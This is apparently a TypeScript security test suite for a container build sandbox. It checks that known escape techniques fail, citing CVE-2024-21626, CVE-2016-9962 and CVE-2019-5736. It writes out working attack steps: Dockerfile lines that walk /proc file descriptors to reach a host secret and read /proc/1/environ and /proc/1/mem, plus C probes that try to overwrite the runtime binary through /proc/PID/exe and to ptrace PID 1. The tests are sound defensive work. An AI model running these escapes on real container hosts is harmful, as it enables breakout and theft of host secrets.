import * as assert from "uvu/assert";
import { sleepers, unusualSeconds } from "../helpers/processes.ts";
import { member, tar } from "../runtime-core/archive-tar.ts";
import { hostileImage } from "./hostile-image.ts";
import { buildProbe } from "./probe.ts";
import { Attacks } from "./rig.ts";

const attacks = new Attacks("descriptors, processes and PID 1");
const { bait, secret } = attacks.host;

attacks.add(
  "no descriptor, directory or program of the machine is left open (CVE-2024-21626, CVE-2016-9962)",
  {
    env: { BAIT_TOKEN: secret },
    dockerfile: [
      "FROM busybox",
      "RUN ls /proc/self/fd | tr '\\n' ' '; echo",
      `RUN for i in $(seq 0 40); do for p in self 1 2; do cat /proc/$p/fd/$i/../../../../../../../..${bait}/file /proc/$p/fd/$i${bait}/file; done; done 2> /dev/null; true`,
      `RUN cat /proc/1/root${bait}/file /proc/1/cwd/../../..${bait}/file /proc/self/root/../../..${bait}/file 2> /dev/null; for i in 3 4 5 6 7; do (echo forged > /proc/1/fd/$i) 2> /dev/null && echo opened $i; done; ls /proc/1/root /proc/1/cwd /proc/1/exe/. 2> /dev/null; cat /proc/1/environ /proc/1/maps /proc/1/mem /proc/1/stack /proc/1/auxv 2> /dev/null; head -c 1 /proc/1/exe 2> /dev/null; cat /proc/[02-9]*/environ | tr '\\0' '\\n' | grep -i bait; true`,
      "RUN ls -d /proc/[0-9]* | wc -l; cat /proc/1/comm",
    ],
  },
  ({ code, stderr, printed }) => {
    assert.is(code, 0, stderr);
    assert.is(printed[0], "0 1 2 3 ", "3 is ls's own");
    assert.equal(printed.slice(1, -2), []);
    assert.match(printed.at(-2) ?? "", /^[2-5]$/);
  },
);

const evil = await hostileImage({
  layers: [
    tar(
      member({ name: "bin/evil", mode: 0o755, data: "#!/proc/self/exe\n" }),
      member({ name: "bin/evil1", mode: 0o755, data: "#!/proc/1/exe\n" }),
      member({ name: "bin/exe", type: "2", link: "/proc/self/exe" }),
      member({ name: "bin/exe1", type: "2", link: "/proc/1/exe" }),
      member({
        name: "overwrite",
        mode: 0o755,
        data: await buildProbe(
          "overwrite",
          `
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
int main(void) {
  char path[64], link[256];
  for (int round = 0; round < 200; round++)
    for (int pid = 1; pid < 20; pid++) {
      snprintf(path, sizeof path, "/proc/%d/exe", pid);
      int fd = open(path, O_PATH);
      if (fd < 0) continue;
      ssize_t n = readlink(path, link, sizeof link - 1);
      link[n < 0 ? 0 : n] = 0;
      snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
      int out = open(path, O_WRONLY | O_TRUNC);
      if (out >= 0 && strncmp(link, "/", 1) == 0 && access(link, F_OK) != 0) { puts("opened"); write(out, "evil", 4); }
      if (out >= 0) close(out);
      close(fd);
    }
  return 0;
}`,
        ),
      }),
    ),
  ],
});

attacks.add(
  "the helper is not overwritten through /proc/self/exe (CVE-2019-5736)",
  {
    images: { evil },
    dockerfile: [
      "FROM evil",
      "RUN for p in /bin/evil /bin/evil1 /bin/exe /bin/exe1; do (exec $p) > /dev/null 2>&1; done; /overwrite & /overwrite; (echo x > /proc/1/exe) 2> /dev/null && echo written; wait",
      'SHELL ["/bin/evil"]',
      "RUN true",
    ],
  },
  ({ code, printed, stderr }) => {
    assert.ok(code !== 0, stderr);
    assert.equal(
      printed.filter((line) => /opened|written/.test(line)),
      [],
    );
  },
);

attacks.add(
  "a program that is PID 1's own cannot be run as an entry point of the step either",
  { images: { evil }, dockerfile: ["FROM evil", 'RUN ["/bin/exe1"]'] },
  ({ code, stderr }) => assert.ok(code !== 0, stderr),
);

attacks.each("no process outlives its step, and none but the step's own dies with it", async (attacker) => {
  const seconds = unusualSeconds();
  const { code, stderr, printed } = await attacker.build({
    dockerfile: [
      "FROM busybox",
      `RUN (setsid sleep ${seconds} &) ; setsid sh -c 'trap "" TERM HUP INT; sleep ${seconds}' & sh -c 'sleep ${seconds} & sleep ${seconds} &' ; nohup sleep ${seconds} > /dev/null 2>&1 & sleep 0.1; ps | grep -c 'sleep ${seconds}'`,
      "RUN kill -9 -1; kill -9 1; kill -STOP 1; echo still here; kill -TERM 1; true",
    ],
  });
  assert.is(sleepers(seconds).length, 0);
  assert.ok(Number(printed[0]) > 3, stderr);
  assert.ok(code === 0 || code === 137 || code === 143, stderr);
});

attacks.add(
  "PID 1 cannot be traced, and another process of the step can",
  {
    images: {
      evil: await hostileImage({
        layers: [
          tar(
            member({
              name: "trace",
              mode: 0o755,
              data: await buildProbe(
                "trace",
                String.raw`
#define _GNU_SOURCE
#include <errno.h>
#include <stdio.h>
#include <sys/ptrace.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>
int main(void) {
  char byte;
  struct iovec here = {&byte, 1}, there = {(void *)0x400000, 1};
  printf("ptrace 1: %d\n", ptrace(PTRACE_SEIZE, 1, 0, 0) < 0 ? errno : 0);
  printf("read 1: %d\n", process_vm_readv(1, &here, 1, &there, 1, 0) < 0 ? errno : 0);
  pid_t child = fork();
  if (child == 0) { pause(); _exit(0); }
  printf("ptrace child: %d\n", ptrace(PTRACE_ATTACH, child, 0, 0) < 0 ? errno : 0);
  return 0;
}`,
              ),
            }),
          ),
        ],
      }),
    },
    dockerfile: ["FROM evil", "RUN /trace"],
  },
  ({ printed, stderr }) => {
    assert.equal(printed, ["ptrace 1: 1", "read 1: 1", "ptrace child: 0"], stderr);
  },
);

attacks.add(
  "clocks, names, keys and queues are the step's own",
  {
    dockerfile: [
      "FROM busybox",
      "RUN test $(cut -d. -f1 /proc/uptime) -lt 60 && echo young; hostname evil 2> /dev/null || hostname; ls -A /dev/mqueue /dev/shm; cat /proc/sysvipc/shm | wc -l; for n in user mnt net ipc time pid cgroup uts; do readlink /proc/self/ns/$n; done",
    ],
  },
  async ({ printed, stderr }) => {
    assert.equal(printed.slice(0, 2), ["young", "buildkitsandbox"], stderr);
    const { readlinkSync } = await import("node:fs");
    for (const link of printed.slice(-8)) {
      const [kind = ""] = link.split(":");
      assert.is.not(readlinkSync(`/proc/self/ns/${kind}`), link, kind);
    }
  },
);

attacks.run();
